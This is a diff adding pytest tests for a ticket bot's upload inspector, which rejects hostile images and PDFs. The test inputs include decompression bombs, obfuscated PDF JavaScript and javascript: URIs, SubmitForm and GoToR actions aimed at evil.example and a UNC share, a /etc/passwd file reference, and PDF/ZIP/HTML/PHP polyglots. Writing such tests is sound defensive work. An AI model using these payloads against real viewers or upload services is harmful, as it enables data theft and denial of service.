@@ -5,14 +5,24 @@ from __future__ import annotations
 import io
 import random
 import string
+import struct
+import zipfile
 import zlib
+from collections.abc import Callable
+from contextlib import suppress
 
+import pypdf
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from PIL import Image
+from pypdf.annotations import Link
+from pypdf.generic import ArrayObject, NameObject
 
+from bot.tickets import inspection
+from bot.tickets.documents import _Reading
 from bot.tickets.inspection import MOST_BYTES, Unfit, inspect
+from bot.tickets.sandbox import Limits, Sandbox
 
 GPS, MADE_BY, ORIENTATION = 0x8825, 0x010F, 0x0112
 PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
@@ -166,14 +176,107 @@ def test_too_many_pixels_are_refused_before_they_are_drawn() -> None:
 
 def bomb(width: int, height: int) -> bytes:
     """A PNG that says how large it is, and says no more."""
-    import struct
-
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
-
     head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
     data = zlib.compress(b"\0" * 1000)
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
+
+
+def chunk(kind: bytes, data: bytes) -> bytes:
+    """A part of a PNG."""
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def png(
+    *parts: bytes, width: int = 10, height: int = 10, depth: int = 8, colour: int = 2, laced: int = 0
+) -> bytes:
+    """A PNG of these parts, with a head and an end."""
+    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, laced)
+    return b"\x89PNG\r\n\x1a\n" + b"".join((chunk(b"IHDR", head), *parts, chunk(b"IEND", b"")))
+
+
+def zeros(n: int) -> bytes:
+    """Compressed, a thousandth of it."""
+    packer = zlib.compressobj(9)
+    return b"".join(
+        [
+            *(packer.compress(bytes(1 << 20)) for _ in range(n >> 20)),
+            packer.compress(bytes(n & 0xFFFFF)),
+            packer.flush(),
+        ]
+    )
+
+
+UPRIGHT = b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06\0\0\0\0\0\0"
+
+
+@pytest.mark.parametrize(("depth", "laced"), [(8, 0), (8, 1), (16, 0)])
+def test_the_largest_picture_fits_into_what_the_sandbox_may_use(depth: int, laced: int) -> None:
+    """A hundred kilobytes that unfold into 25 million points, to be turned upright, interlaced or of 16 bits:
+    drawn within the memory that the kernel holds the sandbox to."""
+    data = zeros(5000 * 5000 * 4 * depth // 8 + 20_000)
+
+    content = png(
+        chunk(b"eXIf", UPRIGHT),
+        chunk(b"IDAT", data),
+        width=5000,
+        height=5000,
+        depth=depth,
+        colour=6,
+        laced=laced,
+    )
+
+    assert "png" == inspect("a.png", content).kind
+
+
+@pytest.mark.parametrize("kind", [b"zTXt", b"iCCP", b"iTXt"])
+def test_notes_and_profiles_that_unfold_are_cut_out(kind: bytes) -> None:
+    """A gigabyte of note in a megabyte is not unfolded to be thrown away."""
+    head = {b"zTXt": b"a\0\0", b"iCCP": b"a\0\0", b"iTXt": b"a\0\1\0\0\0"}[kind]
+    picture = chunk(b"IDAT", zlib.compress(bytes(310)))
+
+    kept = inspect("a.png", png(chunk(kind, head + zeros(1 << 28)), picture)).content
+
+    assert len(kept) < 200
+
+
+def test_a_picture_in_countless_parts_is_broken() -> None:
+    """Each part costs more than it weighs: empty chunks, empty segments, one scan after another."""
+    whole = picture("JPEG", progressive=True)
+    scan = whole[whole.rindex(b"\xff\xda") : -2]
+
+    assert "broken" == refusal("a.png", png(*[chunk(b"IDAT", b"")] * 20_000))
+    assert "broken" == refusal("a.jpg", whole[:2] + b"\xff\xfe\0\2" * 20_000 + whole[2:])
+    assert "broken" == refusal("a.jpg", whole[:-2] + scan * 1000 + whole[-2:])
+
+
+def test_a_picture_that_grows_when_it_is_drawn_anew_is_too_big() -> None:
+    """What is kept has to fit into a letter, too; drawing stops as soon as it does not."""
+    out = io.BytesIO()
+    Image.frombytes("RGB", (3700, 3700), random.Random(1).randbytes(3700 * 3700 * 3)).save(
+        out, "JPEG", quality=75
+    )
+
+    assert len(out.getvalue()) < MOST_BYTES
+    assert "big" == refusal("a.jpg", out.getvalue())
+
+
+def test_exif_that_makes_pillow_stumble_is_broken() -> None:
+    """A value of the wrong type raises struct.error, TypeError and more: to the person it is one thing."""
+    fraction_for_width = struct.pack(">HHII", 0x0100, 5, 1, 38) + struct.pack(">HHIHH", 0x0112, 3, 1, 6, 0)
+    exif = b"Exif\0\0MM\0*\0\0\0\x08\0\x02" + fraction_for_width + bytes(4) + struct.pack(">II", 1, 3)
+
+    assert "broken" == refusal("a.jpg", picture("JPEG", exif=exif))
+
+
+def test_a_file_that_outlasts_what_it_may_use_is_broken(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whatever killed its process, the person hears of their file; the next file is looked into."""
+    hurried = Sandbox("bot.tickets.examination", Limits(cpu=1, seconds=0.2, memory=1 << 28))
+    monkeypatch.setattr(inspection, "_sandbox", hurried)
+    data = chunk(b"IDAT", zeros(5000 * 5000 * 4 + 5000))
+
+    assert "broken" == refusal("a.png", png(data, width=5000, height=5000, colour=6))
+    assert "png" == inspect("a.png", picture("PNG")).kind
+    hurried.close()
 
 
 @pytest.mark.parametrize("format", ["JPEG", "PNG"])
@@ -222,11 +325,7 @@ def test_garbage_behind_good_first_bytes_is_refused(rest: bytes, magic: bytes) -
 
 
 def taken_or_refused(content: bytes) -> None:
-    try:
-        outcome = inspect("a.jpg", content).kind
-    except Unfit as unfit:
-        outcome = unfit.reason
-    assert outcome in ("jpg", "png", "pdf", "big", "kind", "broken", "active", "locked")
+    assert outcome(content) in ("jpg", "png", "pdf", "big", "kind", "broken", "active", "locked")
 
 
 # PDFs -------------------------------------------------------------------------------------------------
@@ -282,6 +381,218 @@ def test_a_locked_pdf_is_refused() -> None:
 def test_a_pdf_without_its_end_is_broken(content: bytes) -> None:
     """A transfer that stopped early."""
     assert "broken" == refusal("a.pdf", content)
+
+
+def test_documents_of_ordinary_programs_are_taken() -> None:
+    """A scan of several pages; pages with links, outlines and a title, opening at a place in them, saved again
+    with a change; objects packed into streams."""
+    assert ["pdf"] * 4 == [outcome(each) for each in (scan(), written(), changed(written()), packed(CATALOG))]
+
+
+def outcome(content: bytes) -> str:
+    """The kind of a file that is taken, or why it is not."""
+    try:
+        return inspect("a", content).kind
+    except Unfit as unfit:
+        return unfit.reason
+
+
+def scan() -> bytes:
+    """As an app makes it that photographs paper."""
+    pages = [Image.effect_noise((600, 800), 30).convert("RGB") for _ in range(3)]
+    out = io.BytesIO()
+    pages[0].save(out, "PDF", save_all=True, append_images=pages[1:], title="ใบเสร็จ")
+    return out.getvalue()
+
+
+def written() -> bytes:
+    """As a word processor or a browser writes it."""
+    writer = pypdf.PdfWriter()
+    for _ in range(3):
+        writer.add_blank_page(595, 842)
+    writer.add_metadata({"/Title": "หนังสือ (ฉบับที่ 1)", "/Producer": "Writer"})
+    writer.add_outline_item(title="บทที่ 1", page_number=1)
+    for target in ("https://example.co.th/docs/JavaScript?a=(1)", "mailto:a@example.co.th", "annex.pdf"):
+        writer.add_annotation(0, Link(rect=(0, 0, 100, 20), url=target))
+    writer.add_annotation(1, Link(rect=(0, 0, 100, 20), target_page_index=2))
+    writer.root_object[NameObject("/OpenAction")] = ArrayObject(
+        [writer.pages[0].indirect_reference, NameObject("/Fit")]
+    )
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def changed(before: bytes) -> bytes:
+    """With a revision behind it."""
+    writer = pypdf.PdfWriter(io.BytesIO(before), incremental=True)
+    writer.pages[0].rotate(90)
+    out = io.BytesIO()
+    writer.write(out)
+    assert out.getvalue().startswith(before)
+    return out.getvalue()
+
+
+CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>"
+BAD = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+
+
+def packed(
+    first: bytes,
+    dictionary: bytes = b"/Filter /FlateDecode",
+    pack: Callable[[bytes], bytes] = zlib.compress,
+    type: bytes = b"/Type /ObjStm",
+) -> bytes:
+    """A document whose objects, of which the catalogue is the first, are packed into a stream (ISO 32000-2, 7.5.7),
+    with a table that is a stream."""
+    objects = (
+        first,
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
+    )
+    offsets = [sum(len(each) + 1 for each in objects[:n]) for n in range(len(objects))]
+    head = b" ".join(b"%d %d" % (n, offset) for n, offset in enumerate(offsets, 1)) + b"\n"
+    data = pack(head + b"\n".join(objects))
+    out = b"%PDF-1.5\n"
+    begins = len(out)
+    out += b"4 0 obj\n<< " + type + b" /N 3 /First %d /Length %d " % (len(head), len(data)) + dictionary
+    out += b" >>\nstream\n" + data + b"\nendstream\nendobj\n"
+    table = len(out)
+    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, begins, 0), (1, table, 0)]
+    entries = b"".join(struct.pack(">BIH", *row) for row in rows)
+    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(entries)
+    return out + entries + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        b"/A << /S /SubmitForm /F (http://evil.example/) >>",
+        b"/A << /S /ImportData /F (data.fdf) >>",
+        b"/A << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>",
+        b"/A << /S /GoToE /T << /R /C >> >>",
+        b"/A << /S /Rendition /OP 0 >>",
+        b"/A << /S /Thread /F (other.pdf) >>",
+        b"/A << /S /Thread /F << /FS /URL >> >>",
+        b"/A << /S /Thread /F %\n <6f74686572> >>",
+        b"/A << /S /#53ubmitForm >>",
+        b"/A << /S % comment\n /Lau#6ech >>",
+        b"/A << /S /GoTo /S /JavaScript >>",
+        b"/Kind null /A << /S /JavaScript >>",
+        b"/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 5 0 R >> >>] >> >>",
+        b"/Subtype /Movie",
+        b"/Subtype /Sound",
+        b"/Subtype /FileAttachment",
+        b"/OpenAction << /S /URI /URI (https://example.com) >>",
+        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>",
+        b"/A << /S /URI /URI (javascript:alert\\(1\\)) >>",
+        b"/A << /S /URI /URI (JavaS\\\ncript:alert\\(1\\)) >>",
+        b"/A << /S /URI /URI (\\152avascript:alert) >>",
+        b"/A << /S /URI /URI <6a6176617363726970743a61> >>",
+        b"/A << /S /URI /URI (file://evil/share) >>",
+        b"/A << /S /URI /URI (\\\\\\\\evil\\\\share) >>",
+        b"/A << /S /URI /URI 5 0 R >>",
+    ],
+)
+def test_what_sends_opens_or_leads_elsewhere_is_refused(inside: bytes) -> None:
+    """Every action that acts on something outside of the document, however it is spelt; of links those that are
+    none."""
+    assert "active" == refusal("a.pdf", pdf(inside))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        with_object(b"9 0 obj\n" + BAD + b"\nendobj\n"),
+        with_object(stream(b"/Length 70", b"9 0 obj\n" + BAD + b"\nendobj\n")),
+        with_object(b"2 0 obj\n(9 0 obj " + BAD + b" endobj)\nendobj\n"),
+        with_object(b"%9 0 obj " + BAD + b" endobj\n"),
+        with_object(stream(b"/Length 0 /F (/etc/passwd)", b"")),
+        with_object(b"%<ScRiPt>alert(1)</script>\n"),
+        packed(CATALOG.replace(b"/S /GoTo", b"/S /JavaScript")),
+        packed(CATALOG.replace(b"/S /GoTo", b"/S /Java#53cript")),
+        packed(
+            CATALOG + BAD,
+            b"/Filter [/ASCIIHexDecode /FlateDecode]",
+            lambda data: zlib.compress(data).hex().encode() + b">",
+        ),
+        packed(CATALOG + BAD, b"/X (" + b"a" * 500 + b") /Filter /FlateDecode"),
+        packed(b"<< /X /endstream >>" + BAD, b"", bytes),
+        packed(CATALOG + BAD, type=b"/Type /Obj#53tm"),
+        packed(CATALOG + BAD, type=b""),
+        changed(written()).replace(b"/Title", b"/AA 1 0 R %"),
+    ],
+    ids=range(14),
+)
+def test_nothing_active_hides(content: bytes) -> None:
+    """In an object that no table names, in a stream, a string, a comment; in another file; in packed objects,
+    whatever their stream is called and however it is filtered; in an earlier revision."""
+    assert "active" == refusal("a.pdf", content)
+
+
+def test_a_table_that_leads_into_a_stream_is_refused() -> None:
+    """A viewer would find an object where nobody reads."""
+    hidden = b"3" + b" " * 30 + b"0 obj << /S /GoTo /D [1 0 R] >>"
+    begins = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n2 0 obj\n<< /Length 60 >>\nstream\n"
+    objects = begins + hidden + b"\nendstream\nendobj\n"
+    offsets = (9, objects.index(b"2 0 obj"), len(begins))
+    table = b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % each for each in offsets)
+    end = b"trailer << /Root 1 0 R /Size 4 >>\nstartxref\n%d\n%%%%EOF\n" % len(objects)
+    content = objects + table + end
+
+    assert "active" == refusal("a.pdf", content)
+
+
+def archive(comment: bytes) -> bytes:
+    """A ZIP file with a comment at its end."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as zip:
+        zip.writestr("evil.class", b"x" * 50)
+        zip.comment = comment
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        PDF + b"<html><script>alert(1)</script></html>",
+        PDF + archive(b""),
+        PDF + archive(b"%%EOF"),
+        PDF.replace(b"trailer", archive(b"") + b"trailer"),
+        with_object(stream(b"/Length 200", archive(b"\nendstream endobj trailer << /Root 1 0 R >> %%EOF"))),
+        PDF.replace(b"1 0 obj", b"<html><script>alert(1)</script></html>\n1 0 obj"),
+        PDF.replace(b"1 0 obj", b"<?php system('id'); ?>\n1 0 obj"),
+    ],
+    ids=range(7),
+)
+def test_what_is_another_file_too_is_refused(content: bytes) -> None:
+    """A page or an archive within a PDF, before, between or behind its objects."""
+    assert outcome(content) in ("broken", "active")
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [b">>stream\n", b"/ObjStm stream\n", b"<<>>stream\nendstream\n", b"(", b"()", b"<<", b"[", b"%\n", b"/#41",
+     b"1 0 obj\n", b"% 1 0 ", b"<", b"startxref\n9\n%%EOF\n", b"trailer <<>>\n"],
+)  # fmt: skip
+def test_reading_takes_as_long_as_a_document_is(unit: bytes) -> None:
+    """Twice the bytes are twice the words at most, whatever is repeated."""
+
+    def words(n: int) -> int:
+        reading = _Reading(unit * n)
+        with suppress(Unfit):
+            reading.read()
+        return reading.words
+
+    assert words(20_000) <= 2 * words(10_000) + 4
+
+
+def test_a_document_of_countless_words_or_unpacked_bytes_is_broken() -> None:
+    """A bound on each, before they are read."""
+    assert "broken" == refusal("a.pdf", with_object(b"2 0 obj << " + b"/a " * 600_000 + b">> endobj\n"))
+    assert "broken" == refusal(
+        "a.pdf", packed(CATALOG, pack=lambda data: zlib.compress(data + bytes(30_000_000)))
+    )
 
 
 # Names ------------------------------------------------------------------------------------------------
